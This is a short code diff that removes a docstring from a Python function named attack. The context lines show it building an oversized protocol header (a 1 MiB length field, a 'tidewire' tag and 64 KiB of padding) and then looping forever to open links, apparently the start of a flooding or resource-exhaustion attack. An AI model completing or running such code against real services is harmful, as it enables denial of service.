@@ -15,7 +15,6 @@ keeps them.
 
 
 def attack(target: Target) -> None:
-    """Send as much of it as is taken."""
     begun = struct.pack("<IBBHQ", 1 << 20, 1, 0, 12, 0) + b"tidewire\1\0\1\0" + bytes(1 << 16)
     while True:
         links = []
